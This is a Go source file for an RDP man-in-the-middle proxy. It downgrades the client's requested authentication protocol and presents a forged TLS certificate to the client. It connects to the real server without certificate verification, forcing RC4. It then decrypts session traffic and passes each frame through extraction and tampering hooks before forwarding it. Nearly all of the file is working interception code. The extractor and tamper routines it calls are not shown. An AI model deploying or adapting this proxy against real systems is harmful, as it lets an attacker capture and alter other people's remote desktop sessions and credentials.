package rdpmitm

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
)

// Proxy owns the listening socket and runs the accept loop. One Session is
// serviced at a time: the accept loop blocks on the current session until
// it fully terminates before accepting the next connection.
type Proxy struct {
	config ProxyConfig
}

// NewProxy validates cfg and returns a ready-to-run Proxy, mirroring the
// teacher's NewServer constructor shape (server.go).
func NewProxy(cfg ProxyConfig) (*Proxy, error) {
	cfg.setDefaults()
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	return &Proxy{config: cfg}, nil
}

// Run accepts connections until the listener is closed (typically by the
// caller reacting to an interrupt signal), or until a session reports that
// the real server enforces NLA: that error is fatal for the whole process,
// so Run stops accepting and returns it for the caller to exit(1) on.
func (p *Proxy) Run(ln net.Listener) error {
	p.config.Logger.Info("listening on %s", ln.Addr())
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return nil
			}
			return fmt.Errorf("rdpmitm: accept: %w", err)
		}
		if err := p.handle(conn); errors.Is(err, ErrNLAEnforced) {
			return err
		}
	}
}

func (p *Proxy) handle(clientConn net.Conn) error {
	defer clientConn.Close()

	p.config.Logger.Info("connection received from %s", clientConn.RemoteAddr())

	target := net.JoinHostPort(p.config.TargetHost, portString(p.config.TargetPort))
	serverConn, err := net.Dial("tcp", target)
	if err != nil {
		p.config.Logger.Error("dial target %s: %v", target, err)
		return nil
	}
	defer serverConn.Close()

	s := newSession(&p.config)
	s.metrics.SessionsTotal.Inc()

	err = s.serve(clientConn, serverConn)
	switch {
	case err == nil:
		return nil
	case errors.Is(err, ErrNLAEnforced):
		p.config.Logger.Error("server enforces NLA: %v", err)
		s.metrics.SessionsFailedTotal.WithLabelValues("nla_enforced").Inc()
		return err
	case errors.Is(err, ErrTransportLost):
		p.config.Logger.Info("connection lost")
		s.metrics.SessionsFailedTotal.WithLabelValues("transport").Inc()
	case errors.Is(err, ErrTLSAccessDenied), errors.Is(err, ErrTLSInternalError):
		p.config.Logger.Warn("tls: %v", err)
		s.metrics.SessionsFailedTotal.WithLabelValues("tls").Inc()
	default:
		var ae *AssertionError
		if errors.As(err, &ae) {
			p.config.Logger.Error("assertion failed, ending session: %v", ae)
		} else {
			p.config.Logger.Error("session ended: %v", err)
		}
	}
	return nil
}

func portString(port int) string { return fmt.Sprintf("%d", port) }

// directedFrame is one raw socket read tagged with its origin, the unit the
// single serializing goroutine in forward() consumes.
type directedFrame struct {
	fromClient bool
	data       []byte
	err        error
}

// serve drives one connection through negotiation, optional TLS wrap, and
// the forwarding loop. It returns only once the session has fully ended.
func (s *Session) serve(clientConn, serverConn net.Conn) error {
	negFrame, err := readFrame(clientConn)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrTransportLost, err)
	}
	rewritten, oldProto, newProto := downgradeAuth(negFrame, s.config.DowngradeTo)
	s.rdpProtocol = uint32(newProto)
	s.rdpProtocolOld = uint32(oldProto)
	if _, err := serverConn.Write(rewritten); err != nil {
		return fmt.Errorf("%w: %v", ErrTransportLost, err)
	}

	negResp, err := readFrame(serverConn)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrTransportLost, err)
	}
	if _, err := clientConn.Write(negResp); err != nil {
		return fmt.Errorf("%w: %v", ErrTransportLost, err)
	}

	clientRW, serverRW := net.Conn(clientConn), net.Conn(serverConn)
	if s.rdpProtocol != 0 {
		clientRW, serverRW, err = s.wrapTLS(clientConn, serverConn)
		if err != nil {
			return err
		}
	}

	return s.forward(clientRW, serverRW)
}

// wrapTLS terminates TLS on the client side with the operator-supplied
// certificate, and on the server side attempts RC4-SHA first (matching
// legacy Windows servers that refuse anything else) before falling back to
// the Go default cipher suite selection. TLS completion itself is treated
// as an external collaborator's concern; this wiring is the extent of the
// proxy's involvement.
func (s *Session) wrapTLS(clientConn, serverConn net.Conn) (net.Conn, net.Conn, error) {
	s.logger.Info("enabling TLS")
	cert, err := tls.LoadX509KeyPair(s.config.CertFile, s.config.KeyFile)
	if err != nil {
		return nil, nil, fmt.Errorf("%w: load keypair: %v", ErrTLSInternalError, err)
	}
	clientTLS := tls.Server(clientConn, &tls.Config{Certificates: []tls.Certificate{cert}})

	serverTLS := tls.Client(serverConn, &tls.Config{
		InsecureSkipVerify: true,
		CipherSuites:       []uint16{tls.TLS_RSA_WITH_RC4_128_SHA},
	})
	if err := serverTLS.Handshake(); err != nil {
		if isTLSAlert(err, "access denied") {
			_, _ = clientConn.Write(credSSPDowngradePayload)
			return nil, nil, ErrTLSAccessDenied
		}
		// Retry without pinning the cipher suite (Go default selection)
		// for servers that reject RC4-SHA outright.
		serverTLS = tls.Client(serverConn, &tls.Config{InsecureSkipVerify: true})
		if err := serverTLS.Handshake(); err != nil {
			if isTLSAlert(err, "internal error") {
				return nil, nil, ErrTLSInternalError
			}
			return nil, nil, fmt.Errorf("%w: %v", ErrTransportLost, err)
		}
	}
	return clientTLS, serverTLS, nil
}

func isTLSAlert(err error, substr string) bool {
	return err != nil && bytes.Contains([]byte(err.Error()), []byte(substr))
}

// forward implements the single-threaded cooperative forwarding loop: two
// reader goroutines feed one unbuffered channel that a lone serializing
// goroutine drains, so extraction, tampering, and the write to the peer
// all happen without suspension between them, and per-direction arrival
// order is preserved because each reader blocks on its own next Read
// until its previous send is consumed.
func (s *Session) forward(clientConn, serverConn net.Conn) error {
	frames := make(chan directedFrame)
	done := make(chan struct{})
	defer close(done)

	go readLoop(clientConn, true, frames, done)
	go readLoop(serverConn, false, frames, done)

	for {
		f := <-frames
		if f.err != nil {
			if errors.Is(f.err, io.EOF) {
				return nil
			}
			return fmt.Errorf("%w: %v", ErrTransportLost, f.err)
		}
		if len(f.data) == 0 {
			return nil
		}

		toConn := serverConn
		if !f.fromClient {
			toConn = clientConn
		}

		for _, pdu := range splitPDUs(f.data) {
			reassembled := s.decryptIfEstablished(pdu, f.fromClient)

			if err := runExtractors(reassembled, f.fromClient, s); err != nil {
				return err
			}

			tampered, err := tamperFrame(reassembled, f.fromClient, s)
			if err != nil {
				return err
			}

			if _, err := toConn.Write(tampered); err != nil {
				return fmt.Errorf("%w: %v", ErrTransportLost, err)
			}
		}
	}
}

// decryptIfEstablished decrypts one frame's body once session keys exist:
// every Fast-Path or Slow-Path encrypted frame has its body RC4-decrypted
// exactly once, returning a new header||cleartext slice (the input frame
// is left unmodified).
func (s *Session) decryptIfEstablished(frame []byte, fromClient bool) []byte {
	if s.getState() != StateEstablished {
		return frame
	}

	cipherState := s.crypto.clientToServer
	if !fromClient {
		cipherState = s.crypto.serverToClient
	}
	if cipherState == nil {
		return frame
	}

	if isFastPath(frame) {
		encrypted := frame[0]>>7 == 1
		offset := 2
		if frame[1] >= 0x80 {
			offset++
		}
		if !encrypted {
			return frame
		}
		offset += 8
		if offset > len(frame) {
			return frame
		}
		cleartext := cipherState.decrypt(frame[offset:])
		return concat(frame[:offset], cleartext)
	}

	if len(frame) <= 15 {
		return frame
	}
	offset := 13
	if frame[offset] >= 0x80 {
		offset++
	}
	offset++
	if offset+2 > len(frame) {
		return frame
	}
	securityFlags := le.Uint16(frame[offset : offset+2])
	if securityFlags&0x0008 == 0 {
		return frame
	}
	offset += 12
	if offset > len(frame) {
		return frame
	}
	cleartext := cipherState.decrypt(frame[offset:])
	return concat(frame[:offset], cleartext)
}

// downgradeAuth inspects the trailing bytes of a negotiation request for
// the pattern that locates the client's requested protocol flags 4 bytes
// from the end, and rewrites it down to the configured limit if the
// client asked for more than the operator allows. When the pattern
// matches, the returned protocol is min(old, limit): it never raises what
// the client requested. When it does not match (or the frame is shorter
// than 8 bytes), the frame is returned unchanged and the byte 4 from the
// end is reported as both old and new protocol, even if it exceeds limit.
func downgradeAuth(frame []byte, limit DowngradeProtocol) (out []byte, oldProto, newProto byte) {
	if len(frame) < 4 {
		return frame, 0, 0
	}
	oldProto = frame[len(frame)-4]
	newProto = oldProto

	if len(frame) < 8 {
		return frame, oldProto, newProto
	}
	patternMatches := frame[len(frame)-7] == 0x00 && frame[len(frame)-5] == 0x00
	if patternMatches && DowngradeProtocol(oldProto) > limit {
		newProto = byte(limit)
		out := make([]byte, 0, len(frame)-7+7)
		out = append(out, frame[:len(frame)-7]...)
		out = append(out, 0x00, 0x08, 0x00, newProto, 0x00, 0x00, 0x00)
		return out, oldProto, newProto
	}
	return frame, oldProto, newProto
}

// readFrame performs one negotiation-phase read: a single read, no
// reassembly loop, since the negotiation request and response are each
// expected to arrive in one TCP segment.
func readFrame(conn net.Conn) ([]byte, error) {
	buf := make([]byte, 4096)
	n, err := conn.Read(buf)
	if err != nil {
		return nil, err
	}
	return buf[:n], nil
}

// readLoop repeatedly reads 4096-byte chunks while the previous read
// returned exactly 4096, so a PDU (or several) spanning more than one TCP
// segment is reassembled before being handed to the framer.
func readLoop(conn net.Conn, fromClient bool, out chan<- directedFrame, done <-chan struct{}) {
	for {
		var data []byte
		for {
			buf := make([]byte, 4096)
			n, err := conn.Read(buf)
			if err != nil {
				select {
				case out <- directedFrame{fromClient: fromClient, err: err}:
				case <-done:
				}
				return
			}
			data = append(data, buf[:n]...)
			if n != 4096 {
				break
			}
		}
		select {
		case out <- directedFrame{fromClient: fromClient, data: data}:
		case <-done:
			return
		}
	}
}
